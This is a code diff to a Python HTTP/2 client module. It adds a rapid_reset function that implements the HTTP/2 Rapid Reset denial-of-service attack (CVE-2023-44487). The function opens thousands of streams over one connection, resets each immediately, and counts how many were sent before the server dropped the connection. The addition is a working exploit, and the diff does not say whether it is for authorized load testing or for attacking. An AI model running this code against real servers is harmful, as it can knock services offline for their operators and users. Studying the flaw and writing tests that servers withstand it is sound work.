@@ -10,6 +10,7 @@ SETTINGS and RST_STREAM, their values.
 
 import socket
 import struct
+import threading
 import time
 
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
@@ -112,3 +113,26 @@ class Connection:
 
     def close(self):
         self.sock.close()
+
+
+def rapid_reset(address, path, message, streams, progress=None):
+    """HTTP/2 rapid reset (CVE-2023-44487): opens `streams` calls of `path`
+    over one connection, resetting each at once, while reading whatever the
+    server sends. Calls progress() every 2,000 streams; returns how many were
+    sent before the server closed the connection."""
+    conn = Connection(address)
+    drain = threading.Thread(target=lambda: sum(1 for _ in conn.frames(600)), daemon=True)
+    drain.start()
+    sent = 0
+    try:
+        for i in range(streams):
+            stream = 1 + 2 * i
+            conn.open(stream, path, message)
+            conn.reset(stream)
+            sent += 1
+            if progress and i % 2000 == 0:
+                progress()
+    except OSError:
+        pass
+    conn.close()
+    return sent
